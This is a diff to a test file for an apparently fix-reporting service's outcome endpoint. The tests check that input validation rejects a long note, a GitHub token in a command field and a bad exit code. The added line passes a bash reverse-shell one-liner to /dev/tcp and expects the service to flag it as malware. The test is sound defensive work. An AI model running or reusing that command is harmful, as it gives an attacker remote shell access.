@@ -208,6 +208,7 @@ describe('one outcome per identity', () => {
     expect((await outcome(x, id, { kind: 'worked', note: 'x'.repeat(301) })).text).toMatch(/^err bad note/);
     expect((await outcome(x, id, { kind: 'worked', evidence: { cmd: 'export GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345' } })).text).toMatch(/^err scrub github evidence\.cmd@\d+\n$/);
     expect((await outcome(x, id, { kind: 'worked', evidence: { exit_after: 256 } })).text).toMatch(/^err bad evidence\.exit_after/);
+    expect((await outcome(x, id, { kind: 'worked', evidence: { cmd: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' } })).text).toBe('err hazard malware\n');
     expect((await outcome(x, 'kzzzzzzzz', { kind: 'worked' })).status).toBe(404);
     expect((await outcome(author, id, { kind: 'worked' })).text).toBe('err dup own entry: others confirm your fixes\n');
     expect((await call(s, 'POST', `/k/${id}/outcome`, { json: { kind: 'worked' } })).status).toBe(401);
